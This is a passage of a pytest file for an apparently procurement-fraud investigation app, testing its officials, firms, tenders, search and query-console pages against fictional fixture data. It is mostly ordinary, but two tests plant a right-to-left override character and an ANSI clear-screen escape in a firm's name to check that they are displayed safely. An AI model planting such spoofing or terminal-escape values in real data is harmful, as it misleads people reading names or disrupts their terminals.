    assert record.loc["O1", "closeness"] == 78.0
    at.selectbox(key="officials_pick").set_value("O1").run()
    no_exception(at)
    assert any("OFF-1" in w.value for w in at.warning)
    # the pass rate says how many results it rests on, and the closeness score opens its pair (it led nowhere)
    labels = [m.label for m in at.metric]
    assert "Pass rate (10 results)" in labels
    assert ("closeness", "open=PAIR-1") in [(link.proto.page, link.proto.query_string) for link in at.page_link]
    # the official's finding is triaged where it is read
    at.selectbox(key="triage_status_officials_OFF-1").set_value("in_progress")
    _submit(at, "Save triage")
    no_exception(at)
    assert app_queries.finding(market_db, "OFF-1")["status"] == "in_progress"
    assert list(app_queries.case_events(market_db, "OFF-1")["action"]) == ["status"]
    firms = table(at, "firm_id", "overdue_approvals").set_index("firm_id")
    assert firms.loc["F5", "inspections"] == 6 and firms.loc["F6", "overdue_approvals"] == 2
    # an approver's record too: approvals per firm and their median days (an app review found none)
    assert firms.loc["F5", ["approvals", "median_approval_days"]].tolist() == [3, 2.0]
    assert firms.loc["F6", ["approvals", "median_approval_days"]].tolist() == [3, 25.0]
    assert firms.loc["F6", "case_officer"] == "since 2024-02-01" and firms.loc["F5", "case_officer"] == ""
    assigned = table(at, "firm_name", "case_officer")  # every assigned firm, with or without activity
    assert assigned[["firm_id", "case_officer"]].values.tolist() == [["F6", "since 2024-02-01"]]
    # an evaluator's record: the bids in the tenders O3 evaluated, and who won them
    at.selectbox(key="officials_pick").set_value("O3").run()
    evaluated = table(at, "firm_id", "overdue_approvals").set_index("firm_id")
    assert evaluated.loc["F1", ["evaluated_bids", "wins_evaluated"]].tolist() == [6, 2]
    assert evaluated.loc["F4", ["evaluated_bids", "wins_evaluated"]].tolist() == [2, 0]
    # period filter: from February on, O1's January inspection (I6) and approval (A6) drop out
    from datetime import date

    at.date_input(key="officials_period").set_value((date(2024, 2, 1), date(2024, 12, 31))).run()
    later = table(at, "official_id", "workload_z").set_index("official_id")
    assert (later.loc["O1", "inspections"], later.loc["O1", "approvals"]) == (9, 5)
    assert not any("as a buyer" in w.value for w in at.warning)  # no department chosen
    # department filter: D2 holds only O3, and its red flags as a buyer show; D1 has none
    at.selectbox(key="officials_department").set_value("D2").run()
    assert list(table(at, "official_id", "workload_z")["official_id"]) == ["O3"]
    [buyer] = [w.value for w in at.warning if "as a buyer" in w.value]
    assert buyer.startswith("**Roads Bureau as a buyer: red flags finding RF") and "(score 64)" in buyer
    assert "R018 Single bid received; R036 Lowest bid disqualified" in buyer
    at.selectbox(key="officials_department").set_value("D1").run()
    assert not any("as a buyer" in w.value for w in at.warning)


def test_officials_and_firms_pages_head_their_tables_in_words(market_db):
    """The Officials page's firm table was headed firm_id, evaluated_bids, wins_evaluated, median_approval_days
    (an investigator's review)."""
    at = app_session("views/officials.py")
    at.selectbox(key="officials_pick").set_value("O1").run()  # a case officer: every table of the drill-down
    no_exception(at)
    assert len(at.dataframe) == 5 and snake_case_headers(at) == []  # with OFF-1's related findings (PAIR-1)
    assert at.selectbox(key="officials_sort").options == ["deviation", "overdue approvals", "workload", "closeness",
                                                          "profile finding score", "pass rate"]
    at = app_session("views/firms.py")
    at.selectbox(key="firm_pick").set_value("F2").run()
    no_exception(at)
    assert len(at.dataframe) == 4 and snake_case_headers(at) == []
    at.text_input(key="firm_search").input("epsilon").run()  # F5: also the officials who supervised it
    no_exception(at)
    supervisors = table(at, "official_id", "median_approval_days")
    assert list(supervisors["official_id"]) == ["O1", "O2"]
    assert len(at.dataframe) == 4 and snake_case_headers(at) == []  # found, findings, officials, ties: no bids


def test_the_other_pages_head_their_tables_in_words(market_db):
    """run_id, started_at, tender_id, published_at, key_screens, official_name, first_seen, last_event_at …
    were table headers (an investigator's review of the Officials page; the same held elsewhere). Rings is
    another's to change."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("CREATE (:LoadRun {id: 'L1', kind: 'csv', source: 'csv:city', input: '/exports/2024-07-01', "
                    "status: 'succeeded', started_at: datetime('2024-07-01T02:00:00Z'), "
                    "finished_at: datetime('2024-07-01T02:05:00Z'), rows_read: 120, rows_loaded: 118, rejected: 2})"
                    ).consume()
        session.run("MATCH (r:Ring {id: 'RING-1'}) SET r.status = 'in_progress'").consume()  # a column of counts
        # O1 sat on T1's committee, where F5 bid: the pair's committee table shows
        session.run("MATCH (o:Official {id: 'O1'}), (t:Tender {id: 'T1'}), (f:Firm {id: 'F5'}) "
                    "CREATE (o)-[:EVALUATED]->(t), (f)-[:SUBMITTED]->(:Bid {id: 'B1-F5', amount: 150000.0})-[:FOR]->(t)"
                    ).consume()
    shown = {}
    # (a finding's page: with its related findings' table)
    for page, tables in (("views/overview.py", 5), ("views/tenders.py", 4), ("views/closeness.py", 7),
                         ("views/cases.py", 3)):
        at = app_session(page)
        if page == "views/cases.py":  # a pair: a ring's tables are views/firm_group.py's, another's to change
            at.selectbox(key="cases_pick").set_value("PAIR-1").run()
        no_exception(at)
        assert len(at.dataframe) == tables, page
        shown[page] = snake_case_headers(at)
        if page == "views/overview.py":  # findings by kind and status: both are headers there
            counts = table(at, "total")
            assert list(counts.columns[:2]) == ["in progress", "open"] and "linked bidders" in counts.index
    assert shown == {page: [] for page in shown}


def test_officials_and_pairs_read_results_and_pending_approvals_as_the_detectors_do(market_db):
    from detectors.market import PASSED_RESULTS

    with market_db.driver.session(database=market_db.settings.database) as session:
        # a city that records results in Chinese (合格 = passed, 不合格 = failed), and O2 with two approvals
        # still pending on 2024-08-01: one within its 20 days (neither work done nor late), one past them
        session.run("MATCH (i:Inspection) WHERE i.result = 'pass' REMOVE i.penalty").consume()  # blank: none
        session.run("MATCH (i:Inspection) SET i.result = CASE i.result WHEN 'pass' THEN ' 合格' ELSE '不合格' END"
                    ).consume()
        session.run("MATCH (o:Official {id: 'O2'}), (f:Firm {id: 'F6'}) "
                    "CREATE (o)-[:DECIDED]->(:Approval {id: 'A-new', kind: 'permit', applied_at: date('2024-07-25'), "
                    "statutory_days: 20})<-[:APPLIED]-(f), "
                    "(o)-[:DECIDED]->(:Approval {id: 'A-old', kind: 'permit', applied_at: date('2024-06-01'), "
                    "statutory_days: 20})<-[:APPLIED]-(f)").consume()
        # an approval decided 通过 ('approved') is no inspection passed; an inspection without a result is no failure
        session.run("MATCH (o:Official {id: 'O1'}), (f:Firm {id: 'F5'}) "
                    "CREATE (o)-[:DECIDED]->(:Approval {id: 'A-cn', kind: 'permit', applied_at: date('2024-03-01'), "
                    "decided_at: date('2024-03-02'), decision: '通过', statutory_days: 20})<-[:APPLIED]-(f), "
                    "(o)-[:CONDUCTED]->(:Inspection {id: 'I-open', date: date('2024-03-03'), kind: 'safety'})"
                    "-[:OF]->(f)").consume()
    record = app_queries.official_workload(market_db, as_of=date(2024, 8, 1)).set_index("official_id")
    assert (record.loc["O1", "passes"], record.loc["O1", "inspections"]) == (8, 11)  # 合格 counts as a pass
    assert record.loc["O1", "pass_rate"] == 0.8  # of the 10 inspections with a result
    assert (record.loc["O2", "approvals"], record.loc["O2", "overdue"]) == (4, 1)  # 3 decided + the late one
    rates = app_queries.pair_inspection_rates(market_db, "O1", "F6").set_index("group")
    assert rates.loc["this official → this firm", "pass_rate"] == 0.5
    assert rates.loc["this official → other firms", "mean_penalty"] == 0.0  # a blank penalty is none imposed
    assert rates.loc["this official → this firm", "mean_penalty"] == 2500.0
    at = app_session("views/officials.py")
    at.selectbox(key="officials_pick").set_value("O1").run()
    firms = table(at, "firm_id", "overdue_approvals").set_index("firm_id")
    assert (firms.loc["F5", "passes"], firms.loc["F6", "passes"]) == (6, 2)
    # the analyst query spells the detectors' list out in Cypher: the same list
    literal = re.search(r"IN \[([^\]]*)\] THEN 1 END\) AS passed", named("analyst_official_firm_ties").text)
    assert literal and tuple(v.strip().strip("'") for v in literal.group(1).split(",")) == PASSED_RESULTS


def test_closeness_page_rates_times_and_ties(market_db):
    at = app_session("views/closeness.py")
    no_exception(at)
    assert list(table(at, "alert_id", "key_facts")["alert_id"]) == ["PAIR-1"]
    rates = table(at, "group", "pass_rate").set_index("group")
    assert rates.loc["this official → this firm", "pass_rate"] == 1.0
    assert rates.loc["other officials → this firm", "pass_rate"] == 0.5
    times = table(at, "group", "mean_days").set_index("group")
    assert times.loc["this official → this firm", "mean_days"] == 2.0
    ties = graph_elements(at, "pair_ties_PAIR-1")
    assert {n["data"]["name"] for n in ties["nodes"]} == {"Olga Inspector", "Paula Sister", "Epsilon Favoured"}
    assert {e["data"]["label"] for e in ties["edges"]} == {"RELATED_TO", "SHAREHOLDER_OF"}
    # each edge says the tie in words, the relation and the share the records hold (they said the type alone)
    assert {e["data"]["caption"] for e in ties["edges"]} == {"sibling", "shareholder 60%"}
    assert any(getattr(x, "key", None) == "pair_timeline_PAIR-1" for x in _walk_all(at))
    assert "**Committees**" not in all_text(at)  # O1 sat on no committee of F5's tenders
    # every record behind the counts, by id, so each fact can be followed to its node
    records = table(at, "activity_id", "statutory_days")
    with market_db.driver.session(database=market_db.settings.database) as session:
        ids = session.run("MATCH (o:Official {id: 'O1'})-[:CONDUCTED|DECIDED]->(n)-[:OF|APPLIED]-(f:Firm {id: 'F5'}) "
                          "RETURN collect(DISTINCT n.id) AS ids").single()["ids"]
    assert ids and sorted(records["activity_id"]) == sorted(ids)
    # an approval's decision date beside its application's: the sentence dates approvals by their decisions
    approvals = records[records["activity"] == "approval"]
    assert len(approvals) and approvals["decided"].notna().all()
    assert ((approvals["decided"] - approvals["date"]).dt.days == approvals["days"]).all()

    # triage here, as on the Rings page; the case file and the printable report can be downloaded
    at.selectbox(key="triage_status_pairs_PAIR-1").set_value("confirmed")
    _submit(at, "Save triage")
    no_exception(at)
    assert app_queries.finding(market_db, "PAIR-1")["status"] == "confirmed"
    assert [b.label for b in at.get("download_button")] == ["Download the case file (JSON)",
                                                           "Download the case report (HTML, to print)"]


def test_tenders_page_bids_rings_facts_and_triage(market_db):
    at = app_session("views/tenders.py")
    no_exception(at)
    listed = table(at, "tender_id", "key_screens")
    assert list(listed["tender_id"]) == ["T2", "T3"] and list(listed["detector"]) == ["tender risk", "red flags"]
    assert (listed.iloc[0]["winners"], listed.iloc[0]["rings"]) == ("Beta Build", "RING-1")
    assert at.selectbox(key="tender_pick").value == "TR-1"
    assert "**Road resurfacing lot 2** · roads · North · published 2024-02-10 · awarded by priceOnly (lowest price)" in all_text(at)
    text = all_text(at)
    assert "ring members F1, F2 and F3 bid" in text
    assert "3 firms bid together in 6 tenders" in text  # RING-1's sentence, beside the tender
    assert "**Ring RING-1** (score 87; its case: open)" in text  # the ring's triage: the tender is part of its case
    assert "Budget 112,200 CNY: the lowest valid bid is 90.9 % of it" in text  # 102,000 against 112,200
    bids = table(at, "firm_id", "pct_above_winner", "shared_trace").set_index("firm_id")
    assert list(bids.index) == ["F2", "F1", "F3", "F4"]
    # the amounts grouped, with the bids' one currency in the header (no column of it to repeat it)
    [shown] = [f for f in at.dataframe if "pct_above_winner" in f.value.columns]
    amount = json.loads(shown.proto.columns)["amount"]
    assert (amount["label"], amount["type_config"]["format"]) == ("amount (CNY)", "%,.2f")
    assert "currency" not in bids
    assert list(bids["shared_trace"]) == [True, True, False, False]
    assert list(bids["rings"]) == ["RING-1", "RING-1", "RING-1", ""]
    facts = table(at, "fact", "path")
    # in words, the path last; no column that no fact fills (TR-1 stores no threshold, baseline or flag)
    assert list(facts.columns) == ["fact", "value", "contribution", "meaning", "path"]
    facts = facts.set_index("path")
    assert facts.loc["screens.budget_ratio", ["fact", "value"]].tolist() == ["screens › lowest bid ÷ budget", "0.909"]
    assert facts.loc["components.ring", ["fact", "contribution"]].tolist() == ["ring bid in it", "15.0"]
    # a fact listing firms names them by the bidders' names (it read "F315883, F317868": an app review)
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (a:Alert {id: 'TR-1'}) SET a.evidence = $evidence",
                    evidence=json.dumps({"ring": {"firms": ["F1", "F2"]}, "winner": "F2"})).consume()
    clear_app_caches()
    at.run()
    facts = table(at, "fact", "path").set_index("path")
    assert facts.loc["ring.firms", "value"] == "Alpha Build (F1), Beta Build (F2)"

    at.selectbox(key="triage_status_tenders_TR-1").set_value("in_progress")
    _submit(at, "Save triage")
    no_exception(at)
    assert app_queries.finding(market_db, "TR-1")["status"] == "in_progress"
    assert list(app_queries.case_events(market_db, "TR-1")["action"]) == ["status"]

    # the filters: with T3 moved to another category, choosing roads leaves T2; with RING-1 no longer
    # found, the ring toggle leaves nothing
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (t:Tender {id: 'T3'}) SET t.category = 'bridges'").consume()
    clear_app_caches()
    at.run()
    at.multiselect(key="tenders_categories").set_value(["roads"]).run()
    no_exception(at)
    assert list(table(at, "tender_id", "key_screens")["tender_id"]) == ["T2"]
    at.toggle(key="tenders_rings").set_value(True).run()
    assert list(table(at, "tender_id", "key_screens")["tender_id"]) == ["T2"]
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (r:Ring {id: 'RING-1'}) SET r.active = false").consume()
    clear_app_caches()
    at.run()
    no_exception(at)
    assert "No flagged tender matches the filters." in all_text(at)


def test_an_untitled_tender_still_shows_its_category_region_and_date(market_db):
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (t:Tender {id: 'T2'}) REMOVE t.title").consume()  # as plain bid tables load them
    at = app_session("views/tenders.py")
    no_exception(at)
    assert "roads · North · published 2024-02-10 · awarded by priceOnly (lowest price)" in [m.value for m in at.markdown]


def test_tenders_page_without_tender_findings_says_how_to_get_them(market_db):
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (a:Alert {kind: 'tender'}) DETACH DELETE a").consume()
    at = app_session("views/tenders.py")
    no_exception(at)
    assert "No tender-risk findings stored" in all_text(at)


def test_firms_page_lists_named_firms_and_a_firms_record(market_db):
    at = app_session("views/firms.py")
    no_exception(at)
    assert list(table(at, "firm_id", "by_kind")["firm_id"]) == ["F1", "F2", "F3", "F5", "F4", "F6"]
    at.selectbox(key="firm_pick").set_value("F2").run()
    no_exception(at)
    assert "Beta Build (F2)" in all_text(at)
    findings = table(at, "finding_id", "how")
    assert list(findings["finding_id"]) == ["RING-1", "TR-1", "RF-1", "LB-1"]
    metrics = {m.label: m.value for m in at.metric}
    assert (metrics["Tenders bid in"], metrics["Tenders won"], metrics["Win share"]) == ("6", "2", "33 %")
    activity = table(at, "year", "amount_awarded")
    assert "currency" not in activity  # every award in one currency: in the amount's header, not a column
    ties = table(at, "tie", "via", "shared_with").set_index("tie")
    assert ties.loc["phone", "shared_with"] == "F1" and ties.loc["address", "shared_with"] == "F3"


def test_firms_page_opens_any_firm_by_search_and_says_when_no_finding_names_it(market_db, access_log):
    """The page listed only the firms a finding names: an investigator with a tip about any other firm could
    not open it (an investigator's review). F7 bid once in T1 and shares F1's and F2's phone; no finding
    names it."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (t:Tender {id: 'T1'}), (phone:Phone {value: '13800000001'}) "
                    "CREATE (f:Firm {id: 'F7', name: 'Eta Quiet Works', reg_no: 'R007', source: 'test'}), "
                    "(f)-[:SUBMITTED]->(:Bid {id: 'B1-F7', amount: 130000.0, source: 'test'})-[:FOR]->(t), "
                    "(f)-[:HAS_PHONE]->(phone)").consume()
    at = app_session("views/firms.py")
    no_exception(at)
    assert "F7" not in set(table(at, "firm_id", "by_kind")["firm_id"])  # the list: firms findings name
    for typed in ("eta quiet", "ETA", "f7", "r007", "Eta Quiet Works"):
        at.text_input(key="firm_search").input(typed).run()
        no_exception(at)
        found = table(at, "firm_id", "findings")
        assert list(found["firm_id"]) == ["F7"], typed
        assert found["findings"].tolist() == [0]
    assert at.selectbox(key="firm_search_pick").value == "F7"
    assert "Eta Quiet Works (F7)" in all_text(at)
    assert any("No finding names this firm" in i.value for i in at.info)  # said plainly, not an empty table
    metrics = {m.label: m.value for m in at.metric}
    assert (metrics["Tenders bid in"], metrics["Tenders won"]) == ("1", "0")
    ties = table(at, "tie", "via", "shared_with").set_index("tie")
    assert ties.loc["phone", "shared_with"] == "F1, F2"
    assert "No inspections or approvals recorded for this firm." in all_text(at)
    opened = [(e["page"], e["firm_id"]) for e in access_entries(access_log) if e["action"] == "record_view"]
    assert ("firms", "F7") in opened  # opened through the search: on record as any record is
    # near-miss: a firm a finding names is found too, with its findings, and no "no finding" notice
    at.text_input(key="firm_search").input("beta").run()
    no_exception(at)
    assert table(at, "firm_id", "findings").set_index("firm_id").loc["F2", "findings"] == 2  # RING-1, LB-1
    assert "RING-1" in set(table(at, "finding_id", "how")["finding_id"])
    assert not any("No finding names this firm" in i.value for i in at.info)
    # a person or a tender of that name is no firm; nothing found is said in words
    at.text_input(key="firm_search").input("pat owner").run()
    no_exception(at)
    assert any("No firm's name, id or registration number matches" in i.value for i in at.info)
    assert not at.metric
    # many found: the page says it lists the first of them
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("UNWIND range(10, 40) AS n CREATE (:Firm {id: 'F' + n, name: 'Many Hands ' + n})").consume()
    at.text_input(key="firm_search").input("many hands").run()
    assert len(table(at, "firm_id", "findings")) == 25
    assert "The first 25 firms found, best match first: type more of the name to narrow them." in all_text(at)
    # the search cleared: the list of firms findings name again
    at.text_input(key="firm_search").input("").run()
    assert list(table(at, "firm_id", "by_kind")["firm_id"]) == ["F1", "F2", "F3", "F5", "F4", "F6"]


def test_explore_page_search_and_neighbourhood(market_db):
    at = app_session("views/explore.py")
    no_exception(at)
    at.text_input(key="explore_query").input("alpha").run()
    results = table(at, "name", "relationships")
    assert list(results["name"]) == ["Alpha Build"]
    assert "score" not in results  # a full-text relevance of 1000 read as a risk score (an app review)
    at.button(key="explore_start").click().run()
    no_exception(at)
    elements = graph_elements(at, "explore_graph_view")
    names = {n["data"]["name"] for n in elements["nodes"]}
    # F1's neighbourhood: its phone, its owner, its ring, the bids it submitted
    assert {"Alpha Build", "13800000001", "Pat Owner", "RING-1"} <= names
    assert "Alpha Build: 12 relationships, 12 fetched" in all_text(at).replace("**", "").replace(" —", ":")
    # an exact key finds the phone too, and so does the number as records write it (the loaders'
    # normal form: "+86 138-0000-0001" found nothing, its digits being 8613800000001)
    for typed in ("13800000001", "+86 138-0000-0001", "+86 138 0000 0001"):
        at.text_input(key="explore_query").input(typed).run()
        assert list(table(at, "name", "relationships")["kind"]) == ["Phone"], typed
    # the node's properties are a table of words, not a JSON block
    at.text_input(key="explore_query").input("alpha").run()
    at.button(key="explore_start").click().run()
    props = table(at, "property", "value")
    assert dict(zip(props["property"], props["value"], strict=True))["name"] == "Alpha Build"
    # a tender's budget grouped, in its currency (it read 112200.0)
    at.text_input(key="explore_query").input("T2").run()
    at.button(key="explore_start").click().run()
    props = dict(zip(*table(at, "property", "value")[["property", "value"]].to_numpy().T, strict=True))
    assert (props["id"], props["budget"]) == ("T2", "112,200 CNY")


def test_explore_shows_a_bidi_override_in_a_name_as_its_code(market_db):
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (f:Firm {id: 'F1'}) SET f.name = 'Alpha \u202edliuB\u001b[2J'").consume()
    at = app_session("views/explore.py")
    at.text_input(key="explore_query").input("alpha").run()
    at.button(key="explore_start").click().run()
    no_exception(at)
    shown = " ".join(m.value for m in at.markdown)
    assert "Alpha \\[U+202E\\]dliuB\\[U+001B\\]\\[2J" in shown and "\u202e" not in shown and "\x1b" not in shown


def test_tables_and_the_graph_show_a_bidi_override_in_a_name_as_its_code(market_db):
    """The first fix covered Markdown only: in the Rings table an RLO in one member's name reversed the other
    members' names of the cell, and the graph drew it raw (a review)."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (f:Firm {id: 'F1'}) SET f.name = 'Alpha \u202edliuB'").consume()
    at = app_session("views/rings.py")
    no_exception(at)
    cell = table(at, "ring_id", "key_screens").set_index("ring_id").loc["RING-1", "member_names"]
    assert "Alpha [U+202E]dliuB" in cell and "\u202e" not in cell
    names = [n["data"]["name"] for n in graph_elements(at, "group_graph_RING-1")["nodes"]]
    assert "Alpha [U+202E]dliuB" in names and not [n for n in names if "\u202e" in n]
    # near-miss: a comment's line break stays a line break in a table
    from views.common import shown_text
    assert shown_text("first line\nsecond\tcolumn") == "first line\nsecond\tcolumn" and shown_text(7) == 7


def test_explore_finds_the_records_and_findings_sentences_quote_by_their_ids_in_any_case(market_db):
    """The Closeness page sends the investigator to Explore with an inspection's or approval's id; a ring's
    id and a firm id typed in lower case are found too."""
    for typed, label in (("I3", "Inspection"), ("A2", "Approval"), ("B2-F1", "Bid"), ("RING-1", "Ring"),
                         ("ring-1", "Ring"), ("f1", "Firm"), ("o2", "Official"), ("t4", "Tender")):
        found = app_queries.search(market_db, typed)
        assert label in set(found["label"]), (typed, list(found["label"]))
        assert found.iloc[0]["label"] == label and found.iloc[0]["score"] == 1000.0, typed
    assert app_queries.search(market_db, "I999").empty  # near-miss: no such record


def test_a_phone_typed_in_national_form_finds_it_stored_with_its_country_code(market_db):
    # an OCDS party's phone is stored with its country's code (loaders.countries); the investigator
    # types it as the firm's letterhead writes it
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("CREATE (:Phone {value: '59521661234'})").consume()
    for typed in ("021 661234", "(021) 661-234", "21661234", "+595 21 661 234"):
        assert list(app_queries.search(market_db, typed)["caption"]) == ["59521661234"], typed
    # near-misses: too few digits to look up by the ending; an ending four digits short of the
    # stored number is no country code away from it
    for typed in ("661234", "1661234"):
        assert "59521661234" not in list(app_queries.search(market_db, typed)["caption"]), typed


def test_explore_tells_two_records_of_one_name_apart(market_db):
    """Two firms named alike are two choices: each option names the record's key (a select box
    whose options read the same picks the last of them, whichever was chosen)."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (f:Firm {id: 'F2'}) SET f.name = 'Alpha Build'").consume()
    at = app_session("views/explore.py")
    at.text_input(key="explore_query").input("alpha").run()
    no_exception(at)
    results = table(at, "name", "relationships")
    assert sorted(results["id"]) == ["F1", "F2"] and set(results["name"]) == {"Alpha Build"}
    assert sorted(at.selectbox(key="explore_pick").options) == ["Firm: Alpha Build (F1)", "Firm: Alpha Build (F2)"]


def test_a_name_typed_with_its_punctuation_is_found(market_db):
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (f:Firm {id: 'F2'}) SET f.name = 'Smith & Sons, Inc. (Holdings)'").consume()
    for typed in ("Smith & Sons, Inc.", "sons, inc. (holdings)", "Smith  &  Sons"):
        assert list(app_queries.search(market_db, typed)["caption"]) == ["Smith & Sons, Inc. (Holdings)"], typed
    assert len(app_queries.search(market_db, "alpha " + "and more words " * 300)) <= 1  # not a server error


def test_a_very_long_word_is_searched_by_its_beginning(market_db):
    """A 5,000-letter word made the server refuse the prefix query ("input automaton is too large")
    and the Explore page show a traceback."""
    for typed in ("x" * 5000, "alpha " + "y" * 5000, "兰" * 5000, "Alph" + "a" * 5000):
        app_queries.search(market_db, typed)  # no GraphError
    assert list(app_queries.search(market_db, "Alpha" + "x" * 5000)["caption"]) == []  # the whole word is no name
    at = app_session("views/explore.py")
    at.text_input(key="explore_query").input("x" * 5000).run()
    no_exception(at)
    assert "Nothing found." in all_text(at)


def test_explore_says_in_words_when_the_server_refuses_a_search(market_db, monkeypatch):
    def search(db, text, limit=25):  # named as the page's cached call looks it up (views.common.load)
        raise GraphError("app_search failed: Neo.ClientError.Procedure.ProcedureCallFailed: input automaton")

    monkeypatch.setattr(app_queries, "search", search)
    at = app_session("views/explore.py")
    at.text_input(key="explore_query").input("alpha").run()
    no_exception(at)
    assert any("could not be run on what was typed" in w.value for w in at.warning)


def test_neighbours_come_in_pages(market_db):
    f1 = app_queries.search(market_db, "F1")
    node_id = f1[f1["caption"] == "Alpha Build"]["node_id"].iloc[0]
    first = app_queries.neighbours(market_db, node_id, skip=0, limit=5)
    second = app_queries.neighbours(market_db, node_id, skip=5, limit=5)
    assert len(first.edges) == 5 and len(second.edges) == 5
    assert not set(first.edges) & set(second.edges)


def test_console_saved_query_with_parameters_and_graph(market_db, access_log):
    at = app_session("views/console.py")
    no_exception(at)
    at.selectbox(key="console_saved").set_value("analyst_top_winners_by_category").run()
    at.text_input(key="console_param_analyst_top_winners_by_category_category").input("roads")
    at.text_input(key="console_param_analyst_top_winners_by_category_limit").input("2")
    at.button(key="console_run").click().run()
    no_exception(at)
    result = table(at, "firm_id", "wins")
    assert len(result) == 2 and set(result["firm_id"]) <= {"F1", "F2", "F3"}
    assert set(result["wins"]) == {2}  # a number column stays numeric
    # a query returning paths is drawn as a graph
    at.selectbox(key="console_saved").set_value("analyst_ring_subgraph").run()
    at.text_input(key="console_param_analyst_ring_subgraph_ring_id").input("RING-1")
    at.button(key="console_run").click().run()
    no_exception(at)
    names = {n["data"]["name"] for n in graph_elements(at, "console_graph")["nodes"]}
    assert {"Alpha Build", "Beta Build", "Gamma Build", "Road resurfacing lot 1"} <= names
    # both queries are on record: who, which saved query, its parameters, what came back
    first, second = access_entries(access_log)
    assert (first["user"], first["action"], first["mode"], first["query"]) == (
        USER, "console_query", "saved", "analyst_top_winners_by_category")
    assert (first["params"], first["outcome"], first["rows"]) == ({"category": "roads", "limit": 2}, "ok", 2)
    assert (second["query"], second["params"], second["outcome"]) == ("analyst_ring_subgraph",
                                                                      {"ring_id": "RING-1"}, "ok")


def test_console_saved_queries_come_with_their_examples_filled_in_and_no_writer_is_offered(market_db, access_log):
    """A saved query run with its boxes empty failed with "Expected a numeric value for org.neo4j…NumericHelper$@…,
    but got null" (an app review), and some 50 writing queries were offered only to be refused."""
    at = app_session("views/console.py")
    options = at.selectbox(key="console_saved").options
    assert any(o.startswith("analyst_same_tender_bid_traces") for o in options)
    assert not any(o.startswith(("load_firms", "load_bids", "ocds_", "findings_upsert", "job_lock", "app_case_event_add"))
                   for o in options)
    at.selectbox(key="console_saved").set_value("analyst_same_tender_bid_traces").run()
    assert at.text_input(key="console_param_analyst_same_tender_bid_traces_limit").value == "50"
    at.button(key="console_run").click().run()
    no_exception(at)
    assert not at.error and access_entries(access_log)[-1]["outcome"] == "ok"
    # near-miss: the box emptied by hand; the failure says what to do, in words
    at.text_input(key="console_param_analyst_same_tender_bid_traces_limit").input("")
    at.button(key="console_run").click().run()
    [error] = [e.value for e in at.error]
    assert "a parameter box left empty is null" in error and "NumericHelper" not in error
    # a syntax error keeps its lines, so that the caret points at the place
    at.radio(key="console_mode").set_value("Free Cypher").run()
    at.text_area(key="console_text").input("MATCH (f:Firm)\nRETURN f.name LIMIT")
    at.button(key="console_run").click().run()
    no_exception(at)
    [laid_out] = [c.value for c in at.code if "^" in c.value]
    caret = [line for line in laid_out.splitlines() if line.strip() == "^"]
    assert caret and caret[0].index("^") > 0  # under the place in the quoted line, not glued to a paragraph


def test_console_id_boxes_start_with_ids_this_database_holds_and_say_where_they_came_from(market_db, access_log):
    """A saved query's boxes held its header's example ("F1", "ring-ee2c…"), which a real database often lacks:
    the first run returned nothing, with no word why (an investigator's review)."""
    at = app_session("views/console.py")

    def box(query: str, parameter: str) -> tuple[str, str]:
        at.selectbox(key="console_saved").set_value(query).run()
        no_exception(at)
        # the caption's markdown escapes taken off ("\\$ring\\_id"): the text the analyst reads
        [said] = [c.value.replace("\\", "") for c in at.caption if c.value.replace("\\", "").startswith(f"${parameter} ")]
        return at.text_input(key=f"console_param_{query}_{parameter}").value, said

    value, said = box("analyst_ring_subgraph", "ring_id")  # the header's ring-ee2c… is in no fixture
    assert value == '"RING-1"'
    assert "the top ring by score" in said and "ring-ee2c4f344bcfb04d is not in this database" in said
    at.button(key="console_run").click().run()
    no_exception(at)
    assert {"Alpha Build", "Beta Build"} <= {n["data"]["name"] for n in graph_elements(at, "console_graph")["nodes"]}
    value, said = box("app_tender_bids", "tender_id")  # no example at all: an empty box before
    assert value == '"T1"' and "a tender the top ring RING-1 bid in" in said and "gives no example" in said
    assert box("app_department_alerts", "department_id")[0] == '"D2"'  # T1's buyer
    # near-miss: the header's example is kept where it exists (F1, O1 and null here)
    value, said = box("analyst_official_firm_inspections", "firm_id")
    assert value == '"F1"' and "own example, which is in this database" in said
    assert box("analyst_official_firm_ties", "official_id")[0] == "null"  # null: every official, on purpose

    # a city's graph: no F1; a query of an official and a firm gets the top pair's firm, which goes with O1
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (f:Firm {id: 'F1'}) SET f.id = 'F01'").consume()
    clear_app_caches()
    at = app_session("views/console.py")
    value, said = box("analyst_official_firm_inspections", "firm_id")
    assert value == '"F5"' and "the firm of the top official–firm pair PAIR-1" in said
    assert "its own example F1 is not in this database" in said
    at.button(key="console_run").click().run()
    no_exception(at)
    assert len(table(at, "inspection_id")) == 6  # O1's six inspections of F5: the first run finds them
    value, said = box("analyst_firm_identifiers", "firm_id")
    assert value == '"F01"' and "a member of the top ring RING-1" in said


def test_console_boxes_keep_the_headers_examples_when_the_ids_cannot_be_read(market_db, monkeypatch):
    def console_ids(db, parameters, examples):  # named as the page's cached call looks it up (views.common.load)
        raise GraphError("app_console_ids failed: Neo.ClientError.Statement.SyntaxError")

    monkeypatch.setattr(app_queries, "console_ids", console_ids)
    at = app_session("views/console.py")
    at.selectbox(key="console_saved").set_value("analyst_firm_identifiers").run()
    no_exception(at)
    assert at.text_input(key="console_param_analyst_firm_identifiers_firm_id").value == '"F1"'
    at.button(key="console_run").click().run()
    no_exception(at)
    assert not at.error


def test_analyst_query_lists_officials_tied_to_firms_they_dealt_with(market_db):
    """O1's sister P2 holds 60 % of F5, which O1 inspected 6 times (all passed) and decided 3 approvals for."""
    rows = market_db.read_frame("analyst_official_firm_ties", official_id=None, limit=10).to_dict("records")
    assert rows == [{"official_id": "O1", "official": "Olga Inspector", "department_id": "D1", "firm_id": "F5",
